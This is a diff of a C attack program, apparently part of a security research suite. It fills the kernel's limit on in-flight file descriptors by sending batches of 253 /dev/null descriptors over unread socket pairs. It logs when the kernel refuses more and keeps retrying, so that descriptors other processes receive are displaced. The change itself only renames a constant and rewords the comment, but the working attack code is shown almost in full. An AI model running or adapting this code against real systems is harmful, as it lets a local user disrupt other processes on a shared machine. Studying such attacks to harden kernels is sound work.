@@ -1,9 +1,9 @@
-// Keeps as many descriptors in flight as the kernel lets it: sends them over socket pairs that nobody reads. Makes the file `full` once no more can be
-// sent, and goes on trying, so that what others read is replaced at once.
+// Keeps as many descriptors in flight as the kernel allows: sends them over socket pairs that no process reads. Creates
+// the file `full` when the kernel refuses more, and keeps trying, to replace at once what other processes receive.
 #include "attack.h"
 #include <sys/resource.h>
 
-#define AT_ONCE 253 // SCM_MAX_FD
+#define MAX_DESCRIPTORS_PER_MESSAGE 253 // SCM_MAX_FD
 
 int main(void)
 {
@@ -13,16 +13,16 @@ int main(void)
     setrlimit(RLIMIT_NOFILE, &limit);
     union {
         struct cmsghdr header;
-        char room[CMSG_SPACE(AT_ONCE * sizeof(int))];
+        char room[CMSG_SPACE(MAX_DESCRIPTORS_PER_MESSAGE * sizeof(int))];
     } control = {0};
     char byte = 'x';
     struct iovec data = {&byte, 1};
     struct msghdr message = {
         .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
     control.header = (struct cmsghdr){
-        .cmsg_len = CMSG_LEN(AT_ONCE * sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
+        .cmsg_len = CMSG_LEN(MAX_DESCRIPTORS_PER_MESSAGE * sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
     int null = open("/dev/null", O_RDONLY);
-    for (int index = 0; index < AT_ONCE; index++)
+    for (int index = 0; index < MAX_DESCRIPTORS_PER_MESSAGE; index++)
         memcpy(CMSG_DATA(&control.header) + index * sizeof(int), &null, sizeof null);
     long sent = 0;
     int ends[2];
@@ -36,7 +36,7 @@ int main(void)
                 die("socketpair");
         } else if (errno == ETOOMANYREFS) {
             int full = open("full", O_CREAT | O_WRONLY, 0644);
-            dprintf(full, "%ld\n", sent * AT_ONCE);
+            dprintf(full, "%ld\n", sent * MAX_DESCRIPTORS_PER_MESSAGE);
             close(full);
             usleep(100);
         } else {
